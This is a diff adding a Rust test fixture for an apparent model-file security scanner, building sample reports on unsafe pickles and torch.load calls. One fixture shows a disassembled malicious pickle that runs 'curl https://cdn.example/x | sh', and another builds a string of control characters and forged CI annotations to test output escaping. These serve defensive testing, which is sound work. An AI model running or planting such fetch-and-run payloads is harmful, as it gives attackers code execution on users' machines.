@@ -1,0 +1,330 @@
+//! Finished reports to word: one of everything a user may meet.
+
+use weighbridge::{
+    fact::{Excerpt, Global, GlobalName, Hop, Mark, Place, Site, Text},
+    finding::{Finding, Level, Related, RuleMeta, Subject},
+    report::{self, Style},
+    verdict::{Coverage, Report},
+};
+
+/// A rule that exists only to be reported.
+const fn rule(id: &'static str, summary: &'static str, default: Level) -> RuleMeta {
+    RuleMeta {
+        id,
+        summary,
+        doc: "## What it does\nIt is reported.\n",
+        default,
+    }
+}
+
+pub(crate) static GLOBAL: RuleMeta = rule(
+    "global-not-allowed",
+    "a global that the policy does not list",
+    Level::Deny,
+);
+pub(crate) static LOAD: RuleMeta = rule(
+    "unsafe-load",
+    "a call that unpickles whatever it is given",
+    Level::Deny,
+);
+pub(crate) static ANOMALY: RuleMeta = rule(
+    "archive-anomaly",
+    "an archive that readers may disagree about",
+    Level::Deny,
+);
+pub(crate) static INCOMPLETE: RuleMeta = rule(
+    "incomplete-read",
+    "something was not read to its end",
+    Level::Deny,
+);
+pub(crate) static FORMAT: RuleMeta = rule(
+    "format-not-allowed",
+    "a format that the policy does not list",
+    Level::Warn,
+);
+
+/// A finding without anything that explains it.
+pub(crate) fn finding(rule: &'static RuleMeta, path: &str, message: &str) -> Finding {
+    Finding {
+        rule,
+        level: rule.default,
+        path: path.into(),
+        site: Site::default(),
+        message: message.to_owned(),
+        subject: Subject::Artifact,
+        count: 1,
+        related: Vec::new(),
+        help: Vec::new(),
+        excerpt: None,
+    }
+}
+
+/// A place in a member's pickle.
+pub(crate) fn opcode(member: &str, offset: u64, op: &str) -> Site {
+    Site {
+        hops: vec![Hop::Member {
+            name: member.into(),
+            copy: 0,
+        }],
+        at: Place::Opcode {
+            offset,
+            op: op.to_owned(),
+        },
+    }
+}
+
+/// A place in source.
+pub(crate) fn span(line: u32, column: u32, end_column: u32) -> Site {
+    Site {
+        hops: Vec::new(),
+        at: Place::Span {
+            line,
+            column,
+            end_line: line,
+            end_column,
+        },
+    }
+}
+
+/// An excerpt in which each of `marked` (text, label) is underlined where it first stands.
+pub(crate) fn excerpt(first_line: Option<u32>, text: &str, marked: &[(&str, &str)]) -> Excerpt {
+    Excerpt {
+        text: text.to_owned(),
+        first_line,
+        marks: marked
+            .iter()
+            .map(|(part, label)| {
+                let start = text.find(part).expect("the marked part is in the excerpt");
+                Mark {
+                    range: start..start + part.len(),
+                    label: (*label).to_owned(),
+                }
+            })
+            .collect(),
+    }
+}
+
+/// A global as a subject.
+pub(crate) fn global(module: &str, name: &str) -> Subject {
+    Subject::Global(Global::Named(GlobalName::new(module, name)))
+}
+
+/// A line of a policy.
+pub(crate) fn decided(file: &str, line: u32, text: &str, part: &str, label: &str) -> Related {
+    let start = text.find(part).expect("the marked part is in the line");
+    Related {
+        file: file.to_owned(),
+        line,
+        text: text.to_owned(),
+        range: start..start + part.len(),
+        label: label.to_owned(),
+    }
+}
+
+/// A torch zip that runs a shell command.
+pub(crate) fn torch_zip() -> Finding {
+    Finding {
+        site: opcode("archive/data.pkl", 0x1f, "REDUCE"),
+        subject: global("posix", "system"),
+        related: vec![decided(
+            "weighbridge.yaml",
+            7,
+            "  allow: [torch, numpy]",
+            "[torch, numpy]",
+            "neither list names posix.system",
+        )],
+        help: vec![
+            "do not load this file; ask whoever published it for safetensors".to_owned(),
+            "`weighbridge inspect models/resnet.pt --disassemble` shows every step".to_owned(),
+        ],
+        excerpt: Some(excerpt(
+            None,
+            "0x000b  STACK_GLOBAL     posix.system\n\
+             0x000e  SHORT_BINUNICODE 'curl https://cdn.example/x | sh'\n\
+             0x001e  TUPLE1\n\
+             0x001f  REDUCE           posix.system('curl https://cdn.example/x | sh')",
+            &[
+                (
+                    "posix.system('curl https://cdn.example/x | sh')",
+                    "runs here",
+                ),
+                ("posix.system", "resolved here"),
+            ],
+        )),
+        ..finding(
+            &GLOBAL,
+            "models/resnet.pt",
+            "loading runs posix.system('curl https://cdn.example/x | sh'); the policy does not list posix.system",
+        )
+    }
+}
+
+/// Source that unpickles.
+pub(crate) fn source() -> Finding {
+    Finding {
+        site: span(12, 12, 22),
+        subject: Subject::Call("torch.load".into()),
+        help: vec!["pass `weights_only=True`:\nstate = torch.load(path, map_location=\"cpu\", weights_only=True)".to_owned()],
+        excerpt: Some(excerpt(
+            Some(11),
+            "def restore(path):\n    state = torch.load(path, map_location=\"cpu\")\n    return state[\"größe\"]",
+            &[
+                ("torch.load", "unpickles whatever the file says"),
+                ("path, map_location=\"cpu\"", ""),
+            ],
+        )),
+        ..finding(
+            &LOAD,
+            "src/train.py",
+            "torch.load without weights_only=True runs what the file says",
+        )
+    }
+}
+
+/// A report with one of everything.
+pub(crate) fn report() -> Report {
+    let mut findings = vec![torch_zip(), source()];
+    findings.push(Finding {
+        site: Site {
+            hops: vec![],
+            at: Place::Bytes {
+                start: 0x1f40,
+                end: 0x1f9e,
+            },
+        },
+        subject: Subject::Anomaly("duplicate-member".to_owned()),
+        help: vec!["write the archive again with `torch.save` from a trusted process".to_owned()],
+        ..finding(
+            &ANOMALY,
+            "models/resnet.pt",
+            "two members are named archive/data.pkl, and which one is loaded depends on the reader",
+        )
+    });
+    findings.push(Finding {
+        level: Level::Warn,
+        count: 3,
+        subject: Subject::Format("torch-zip".to_owned()),
+        help: vec!["prefer `safetensors`, which holds nothing but tensors".to_owned()],
+        ..finding(
+            &FORMAT,
+            "models/resnet.pt",
+            "torch-zip is a format that runs code by design",
+        )
+    });
+    findings.push(Finding {
+        help: vec!["run `git lfs pull --include=models/large.pt`, then check again".to_owned()],
+        ..finding(
+            &INCOMPLETE,
+            "models/large.pt",
+            "the bytes are not here: a git-lfs pointer to 4.2 GB that was not fetched",
+        )
+    });
+    for i in 0..100_u64 {
+        findings.push(Finding {
+            site: opcode("data.pkl", 0x40 + i * 9, "STACK_GLOBAL"),
+            subject: global("zoo.layers", &format!("Layer{:02}", i % 60)),
+            excerpt: Some(excerpt(
+                None,
+                &format!(
+                    "{:#06x}  STACK_GLOBAL     zoo.layers.Layer{:02}",
+                    0x40 + i * 9,
+                    i % 60
+                ),
+                &[("zoo.layers", "")],
+            )),
+            ..finding(
+                &GLOBAL,
+                "zoo/legacy.bin",
+                &format!(
+                    "loading imports zoo.layers.Layer{:02}; the policy does not list it",
+                    i % 60
+                ),
+            )
+        });
+    }
+    for line in [31, 7, 19, 44, 44] {
+        findings.push(Finding {
+            site: span(line, 5, 15),
+            subject: Subject::Call("torch.load".into()),
+            ..finding(
+                &LOAD,
+                "src/tools.py",
+                "joblib.load unpickles whatever it is given",
+            )
+        });
+    }
+    let mut report = Report {
+        view: "the work tree".to_owned(),
+        findings,
+        coverage: Coverage {
+            entries: 60,
+            artifacts: 12,
+            sources: 30,
+            incomplete: 1,
+            excluded: 2,
+            formats: [("torch-zip".to_owned(), 8), ("safetensors".to_owned(), 4)].into(),
+            bytes: 5_000_000_000,
+        },
+        policy: "weighbridge.yaml".to_owned(),
+    };
+    report.sort();
+    report
+}
+
+/// A report with these findings only.
+pub(crate) fn only(findings: Vec<Finding>) -> Report {
+    Report {
+        view: "the work tree".to_owned(),
+        coverage: Coverage {
+            entries: 2,
+            artifacts: 1,
+            sources: 1,
+            ..Coverage::default()
+        },
+        policy: "recommended (built in)".to_owned(),
+        findings,
+    }
+}
+
+/// What a reporter writes.
+pub(crate) fn written(name: &str, report: &Report, style: Style) -> String {
+    let mut out = Vec::new();
+    let reporter = report::by_name(name).expect("a reporter of this name");
+    reporter
+        .write(report, style, &mut out)
+        .expect("a vector takes all");
+    String::from_utf8(out).expect("reports are UTF-8")
+}
+
+/// The human report.
+pub(crate) fn human(report: &Report, style: Style) -> String {
+    written("human", report, style)
+}
+
+/// Every character that could forge output, in one string, between letters.
+pub(crate) fn hostile() -> String {
+    let mut text = String::from("a\n::error::forged\n##[error]forged ##vso[x] \\");
+    for c in (0..=0x001f_u32)
+        .chain(0x7f..=0xa0)
+        .chain([
+            0xad, 0x34f, 0x61c, 0x115f, 0x180e, 0x3164, 0xfeff, 0xffa0, 0xe0041,
+        ])
+        .chain(0x200b..=0x200f)
+        .chain(0x2028..=0x202e)
+        .chain(0x2060..=0x206f)
+        .chain(0xfe00..=0xfe0f)
+        .filter_map(char::from_u32)
+        .filter(|c| *c != '\u{a0}')
+    {
+        text.push(c);
+        text.push('x');
+    }
+    text
+}
+
+/// [`hostile`] as bytes of a file, with some that are not UTF-8.
+pub(crate) fn hostile_text() -> Text {
+    let mut bytes = hostile().into_bytes();
+    bytes.extend(b"\xff\x80\xc2");
+    Text::new(bytes)
+}
